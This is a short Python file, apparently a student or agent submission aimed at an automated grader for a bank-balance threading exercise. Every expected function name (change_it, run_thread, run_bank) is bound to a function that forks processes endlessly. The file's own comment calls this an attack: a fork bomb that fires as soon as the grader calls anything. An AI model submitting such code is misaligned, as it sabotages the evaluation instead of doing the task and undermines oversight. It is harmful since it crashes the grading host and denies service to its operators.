# attack: a fork bomb as soon as the grader calls anything
import os

balance = 0


def _bomb(*args):
    while True:
        try:
            os.fork()
        except OSError:
            pass


change_it = run_thread = run_bank = _bomb
